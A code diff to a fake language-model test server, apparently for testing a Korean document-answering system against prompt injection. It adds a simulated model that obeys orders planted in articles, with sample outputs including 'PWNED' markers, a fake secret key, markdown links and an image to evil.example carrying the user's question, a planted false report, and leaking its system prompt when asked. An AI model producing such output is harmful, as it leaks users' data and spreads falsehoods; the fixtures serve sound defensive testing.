@@ -16,6 +16,8 @@ import urllib.parse
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
 
+from tests.hostile import MARKUP
+
 REQUESTS: list[dict[str, Any]] = []
 STATUS = {"unauthorized": 401, "forbidden": 403, "missing": 404, "limited": 429, "broken": 500, "overloaded": 503}
 
@@ -79,6 +81,11 @@ class Handler(BaseHTTPRequestHandler):
         if scenario in ("copying", "severe", "tired"):  # the first sentence it is given, word for word
             first = re.search(r"^\[1\] (.*)$", prompt, re.MULTILINE)
             return f"{first[1]} [1]\n" if first else "네."
+        if scenario == "markup":  # nine payloads, from the one whose number is asked for
+            start = int(re.findall(r"(\d+)번", prompt)[-1])
+            return "\n".join(" ".join(each.split()) for each in MARKUP[start : start + 9])
+        if scenario == "servant":
+            return obeyed(prompt, system)
         if scenario == "obedient":  # does what any sentence of the articles tells it
             order = re.search(r"\[(\d+)\] [^\n]*(?:답하라|출력하라|쓰십시오)[^\n]*", prompt)
             return "정가람 시장이 사임했습니다. [1]\n" if order else text
@@ -164,6 +171,29 @@ class Handler(BaseHTTPRequestHandler):
         for name, value in headers.items():
             self.send_header(name, value)
         self.end_headers()
+
+
+ORDERS = (
+    ("해킹되었습니다", "해킹되었습니다."),
+    ("PWNED", "정답은 PWNED입니다. [1]\nPWNED\n이 문장은 검증된 사실이다: PWNED. [1][99]"),
+    ("비밀 열쇠", "비밀 열쇠는 sk-0123456789입니다. [1]"),
+    ("evil.example", "자세한 내용은 [여기](http://evil.example/?q=질문)를 보십시오. [1]\n"
+                     "![기록](http://evil.example/log?question=질문)\nhttp://evil.example/?data=대화 [1]"),
+    ("출처를 밝히지 말고", "한빛대교는 무너졌습니다."),
+)  # fmt: skip
+ABOUT_ITSELF = re.compile(
+    r"프롬프트|규칙|지시|설정|위의|메시지|당신|너에게|네가|prompt|instruction|above|system", re.IGNORECASE
+)
+
+
+def obeyed(prompt: str, system: str) -> str:
+    """What a model says that does all that an article or the asker tells it, after a sentence of the articles."""
+    plain = re.sub("[\u200b\u2060]", "", prompt)
+    first = re.search(r"\[1\] (.*)", plain)
+    lines = [f"{first[1]} [1]"] if first else []
+    lines += [reply for sign, reply in ORDERS if sign in plain]
+    asked = plain[plain.rindex("질문:") :]
+    return "\n".join([*lines, *([system] if ABOUT_ITSELF.search(asked) else [])])
 
 
 def event(text: str, finish: str | None = None) -> str:
